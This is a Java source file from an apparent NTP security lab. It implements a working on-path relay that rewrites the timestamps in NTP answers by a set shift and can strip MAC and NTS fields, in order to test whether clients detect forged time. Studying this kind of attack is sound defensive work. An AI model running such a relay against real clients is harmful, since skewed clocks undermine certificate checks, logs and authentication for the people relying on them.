package dev.pintp.lab;

import java.net.DatagramSocket;
import java.net.InetSocketAddress;
import java.net.SocketAddress;
import java.net.SocketException;
import java.util.Arrays;

/**
 * The on-path attacker of the lab: a UDP relay that forwards requests unchanged and rewrites every answer's receive,
 * transmit and reference timestamps by a fixed shift, leaving everything after the header (a MAC) as it was. An
 * unauthenticated client sees a server {@code shift} ahead; a keyed or NTS client sees a MAC or an NTS authenticator
 * that no longer verifies. With {@code strip} it also cuts every answer to its 48-byte header, dropping MAC and NTS
 * extension fields: the plain, unauthenticated answer an attacker who cannot forge them would send.
 * Threads: one per socket. Runs until closed or killed.
 */
public final class ForgingUdpRelay extends UdpRelay {
    private final long shiftNtp;
    private final boolean strip;

    /**
     * Binds {@code listen} and starts relaying to {@code upstream}.
     *
     * @param listen where clients send, not null
     * @param upstream the real server, not null
     * @param shiftSeconds added to the answers' timestamps (negative: back), at most 1000 s either way
     * @throws SocketException if {@code listen} cannot be bound
     */
    public ForgingUdpRelay(InetSocketAddress listen, InetSocketAddress upstream, double shiftSeconds)
            throws SocketException {
        this(listen, upstream, shiftSeconds, false);
    }

    /**
     * Binds {@code listen} and starts relaying to {@code upstream}, optionally stripping what follows the header.
     *
     * @param listen where clients send, not null
     * @param upstream the real server, not null
     * @param shiftSeconds added to the answers' timestamps (negative: back), at most 1000 s either way
     * @param strip cut every answer to its 48-byte header (no MAC, no extension fields)
     * @throws SocketException if {@code listen} cannot be bound
     */
    public ForgingUdpRelay(InetSocketAddress listen, InetSocketAddress upstream, double shiftSeconds, boolean strip)
            throws SocketException {
        super(checked(listen, shiftSeconds), upstream, "forge");
        this.strip = strip;
        this.shiftNtp = Math.round(shiftSeconds * 4294967296.0); // NTP timestamps: 32.32 fixed point seconds
        start();
    }

    private static InetSocketAddress checked(InetSocketAddress listen, double shiftSeconds) {
        if (!(Math.abs(shiftSeconds) <= 1000)) {
            throw new IllegalArgumentException("shift must be within 1000 s, was " + shiftSeconds);
        }
        return listen;
    }

    /** Requests pass unchanged; answers are forged. */
    @Override
    void relay(DatagramSocket via, byte[] data, SocketAddress to, boolean answer) {
        send(via, answer ? forge(data, shiftNtp, strip) : data, to);
    }

    /** {@code datagram} with its timestamps at bytes 16, 32 and 40 moved by the shift (non-zero ones only). */
    static byte[] forge(byte[] datagram, long shiftNtp) {
        return forge(datagram, shiftNtp, false);
    }

    /** As {@link #forge(byte[], long)}, and with {@code strip} only the first 48 bytes (the header) are kept. */
    static byte[] forge(byte[] datagram, long shiftNtp, boolean strip) {
        byte[] out = strip && datagram.length > 48 ? Arrays.copyOf(datagram, 48) : datagram.clone();
        if (out.length >= 48) {
            for (int at : new int[] {16, 32, 40}) {
                long t = readLong(out, at);
                if (t != 0) {
                    writeLong(out, at, t + shiftNtp);
                }
            }
        }
        return out;
    }

    private static long readLong(byte[] b, int at) {
        long v = 0;
        for (int i = 0; i < 8; i++) {
            v = v << 8 | (b[at + i] & 0xFF);
        }
        return v;
    }

    private static void writeLong(byte[] b, int at, long v) {
        for (int i = 7; i >= 0; i--) {
            b[at + i] = (byte) v;
            v >>>= 8;
        }
    }

    /**
     * Command line: {@code ForgingUdpRelay LISTEN_ADDR:PORT UPSTREAM_ADDR:PORT SHIFT_SECONDS [strip]}. Prints
     * {@code listening ...} once bound, then relays until killed.
     *
     * @param args the arguments above
     * @throws Exception if an argument is malformed or the address cannot be bound
     */
    public static void main(String[] args) throws Exception {
        if (args.length < 3 || args.length > 4 || args.length == 4 && !args[3].equals("strip")) {
            System.err.println("usage: ForgingUdpRelay LISTEN:PORT UPSTREAM:PORT SHIFT_SECONDS [strip]");
            System.exit(2);
        }
        boolean strip = args.length == 4;
        try (ForgingUdpRelay relay = new ForgingUdpRelay(Relays.parse(args[0]), Relays.parse(args[1]),
                Double.parseDouble(args[2]), strip)) {
            System.out.println("listening " + relay.address() + " -> " + args[1] + " shifting answers by " + args[2]
                    + " s" + (strip ? ", extension fields and MAC stripped" : ""));
            System.out.flush();
            Thread.currentThread().join();
        }
    }
}
